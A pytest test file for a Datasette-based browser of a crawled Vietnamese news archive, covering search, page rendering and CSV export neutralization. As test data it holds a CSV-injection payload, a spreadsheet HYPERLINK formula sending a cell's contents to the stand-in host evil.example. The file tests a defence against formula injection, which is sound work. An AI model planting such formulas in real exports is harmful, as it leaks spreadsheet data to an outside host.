"""`tinhuy browse`: the crawled replica in Datasette, as an analyst's browser shows it."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote_plus

import pytest

from tests.helpers import ROOT

SEED_TITLE = "Đồng chí Phó Bí thư Thường trực Tỉnh ủy làm việc với Trường Chính trị tỉnh"


@pytest.fixture(scope="module")
def chromium() -> str:
    """Debian's chromium, installed with apt-get when missing."""
    found = shutil.which("chromium")
    if found is None:
        print("\nchromium is missing: installing it with `apt-get install -y chromium`...")
        done = subprocess.run(
            ["apt-get", "install", "-y", "chromium"], capture_output=True, text=True, check=False
        )
        found = shutil.which("chromium")
        if found is None:
            pytest.fail(f"chromium missing and apt-get could not install it: {done.stderr[-300:]}")
    return found


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def browse(db: Path, log: Path) -> Iterator[str]:
    """`tinhuy browse` on `db`; yields the database's base URL."""
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "crawler.cli", "browse", "--db", str(db), "--port", str(port)],
        cwd=ROOT,
        stdout=log.open("w"),  # a file, not a pipe: a full pipe would block the server
        stderr=subprocess.STDOUT,
        start_new_session=True,  # its own group: Datasette runs as its child
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                urllib.request.urlopen(base + "/-/versions.json", timeout=2).close()
                break
            except OSError:
                if server.poll() is not None or time.monotonic() > deadline:
                    pytest.fail(f"tinhuy browse did not start:\n{log.read_text()}")
                time.sleep(0.2)
        yield f"{base}/{db.stem}"
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=10)


@pytest.fixture(scope="module")
def browsing(crawled, tmp_path_factory) -> Iterator[str]:
    """`tinhuy browse` on the crawled replica."""
    with browse(Path(crawled.db), tmp_path_factory.mktemp("browse") / "browse.log") as url:
        yield url


def dom(chromium: str, url: str, tmp_path: Path) -> str:
    done = subprocess.run(
        [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
         "--no-first-run", "--disable-background-networking", "--disable-component-update",
         "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", url],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def test_articles_page_shows_the_seed_article_and_facets(chromium, browsing, tmp_path) -> None:
    page = dom(chromium, f"{browsing}/articles", tmp_path)
    assert SEED_TITLE in page
    for facet in ("category", "author", "published (month)"):
        assert facet in page
    assert "Tin hoạt động" in page


def test_search_without_diacritics_finds_the_seed_article(chromium, browsing, tmp_path) -> None:
    page = dom(chromium, f"{browsing}/articles?_search={quote_plus('truong chinh tri')}", tmp_path)
    assert SEED_TITLE in page
    assert 'where search matches "truong chinh tri"' in page


def test_search_with_d_stroke_matches_the_folded_index(browsing) -> None:
    # đ is folded in the index; the search box must fold it as well.
    url = f"{browsing}/articles.json?_search={quote_plus('Đồng chí Trường Chính trị')}&_col=title"
    with urllib.request.urlopen(url, timeout=10) as response:
        body = response.read().decode()
    assert "Tr\\u01b0\\u1eddng Ch\\u00ednh tr\\u1ecb t\\u1ec9nh" in body


def test_browse_refuses_a_missing_archive(tmp_path) -> None:
    from tests.helpers import tinhuy

    done = tinhuy("browse", "--db", str(tmp_path / "none.db"), check=False)
    assert done.returncode == 2 and "no archive at" in done.stderr


# -- CSV export: formula cells neutralized (OWASP "CSV Injection") ---------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
PHONE = "+84 912 345 678"


@pytest.fixture(scope="module")
def browsing_formulas(crawled, tmp_path_factory) -> Iterator[tuple[str, int]]:
    """`tinhuy browse` on a copy of the crawl whose first article's title is a formula
    and its lead a phone number; yields the base URL and that article's id."""
    tmp = tmp_path_factory.mktemp("formulas")
    db = tmp / "formulas.db"
    shutil.copy(crawled.db, db)
    with sqlite3.connect(db) as conn:
        first = conn.execute("SELECT min(id) FROM articles").fetchone()[0]
        conn.execute(
            "UPDATE articles SET title = ?, lead = ? WHERE id = ?", (FORMULA, PHONE, first)
        )
    with browse(db, tmp / "browse.log") as url:
        yield url, first


def download(url: str) -> tuple[str, str]:
    with urllib.request.urlopen(url, timeout=30) as response:
        return response.headers["content-type"], response.read().decode("utf-8")


def test_every_csv_cell_of_the_table_is_neutralized(browsing_formulas) -> None:
    from pipelines.archive.dump.cells import neutralize

    base, first = browsing_formulas
    _, body = download(f"{base}/articles.csv?_stream=1")
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(body, newline=""))}
    assert rows[first]["title"] == "'" + FORMULA
    assert rows[first]["lead"] == "'" + PHONE
    # The rest comes through as the JSON export shows it, paragraph breaks and all.
    _, text = download(f"{base}/articles.json?_shape=array&_size=max")
    exported = json.loads(text)
    assert len(rows) == len(exported) > 40
    for article in exported:
        row = rows[article["id"]]
        for column, value in article.items():
            expected = "" if value is None else neutralize(str(value))
            assert row[column] == expected, (article["id"], column)
    assert any("\n\n" in row["body"] for row in rows.values())


def test_query_and_download_csv_are_neutralized_and_json_is_not(browsing_formulas) -> None:
    base, first = browsing_formulas
    sql = quote_plus("select id, title, lead from articles where id = :id")
    kind, body = download(f"{base}.csv?sql={sql}&id={first}")
    assert kind.startswith("text/plain")
    quoted = '"' + "'" + FORMULA.replace('"', '""') + '"'
    assert body == f"id,title,lead\r\n{first},{quoted},'{PHONE}\r\n"
    kind, body = download(f"{base}/articles.csv?_dl=1&id={first}&_col=title")
    assert kind.startswith("text/csv")
    assert list(csv.reader(io.StringIO(body, newline=""))) == [
        ["id", "title"],
        [str(first), "'" + FORMULA],
    ]
    # `_trace` would put the CSV in an HTML debug page; for a .csv it is dropped.
    kind, body = download(f"{base}/articles.csv?_trace=1&id={first}&_col=title")
    assert kind.startswith("text/plain") and "'=HYPERLINK" in body
    _, text = download(f"{base}/articles/{first}.json?_shape=array")
    assert json.loads(text)[0]["title"] == FORMULA


def test_csv_cells_rewrites_records_cut_anywhere() -> None:
    from crawler.browse_plugins.csv_cells import CsvCells
    from pipelines.archive.dump.cells import neutralize

    rows = [
        ["id", "title", "body"],
        ["1", FORMULA, 'Đoạn một.\r\n\r\n-Đoạn hai, có "ngoặc".'],
        ["2", "@SUM(A1:A2)", "\rVề đầu dòng"],
        ["3", "Tổng = 3", ""],
        ["-4", "\tTab", '"=trong ngoặc"'],
    ]
    source, expected = io.StringIO(), io.StringIO()
    csv.writer(source).writerows(rows)
    csv.writer(expected).writerows([[neutralize(cell) for cell in row] for row in rows])
    data = source.getvalue().encode("utf-8")
    for size in (1, 2, 3, 5, 64, len(data)):
        cells = CsvCells()
        out = b"".join(cells.feed(data[i : i + size]) for i in range(0, len(data), size))
        assert (out + cells.close()).decode("utf-8") == expected.getvalue(), size
    # A whole record goes out as soon as it has arrived.
    cells = CsvCells()
    assert cells.feed(b'1,"=a\r\n') == b""
    assert cells.feed(b'b"\r\n2,x') == b'1,"\'=a\r\nb"\r\n'
    assert cells.close() == b"2,x\r\n"


def test_only_successful_csv_responses_are_rewritten() -> None:
    import asyncio

    from crawler.browse_plugins.csv_cells import neutralize_csv

    async def app(scope, receive, send) -> None:
        status = 404 if scope["path"].startswith("/missing") else 200
        kind = b"application/json" if scope["path"].endswith(".json") else b"text/plain"
        await send(
            {
                "type": "http.response.start",
                "status": status,
                "headers": [(b"content-type", kind), (b"content-length", b"9")],
            }
        )
        await send({"type": "http.response.body", "body": scope["query_string"] + b"\r\n"})
        await send({"type": "http.response.body", "body": b"=1+1\r\n"})

    def get(path: str, query: bytes = b"") -> list[dict]:
        sent: list[dict] = []

        async def send(message) -> None:
            sent.append(message)

        scope = {"type": "http", "path": path, "query_string": query}
        asyncio.run(neutralize_csv(app)(scope, None, send))
        return sent

    sent = get("/db/articles.csv", b"_trace=1&_col=title&%5Ftrace=on")
    assert sent[0]["headers"] == [(b"content-type", b"text/plain")]
    assert [m["body"] for m in sent[1:]] == [b"_col=title\r\n", b"'=1+1\r\n"]
    # An error page for a .csv path, and other formats, go out as they came.
    sent = get("/missing.csv")
    assert (b"content-length", b"9") in sent[0]["headers"]
    assert [m["body"] for m in sent[1:]] == [b"\r\n", b"=1+1\r\n"]
    for path in ("/db/articles.json", "/db/articles"):
        sent = get(path, b"_trace=1")
        assert (b"content-length", b"9") in sent[0]["headers"]
        assert [m["body"] for m in sent[1:]] == [b"_trace=1\r\n", b"=1+1\r\n"], path
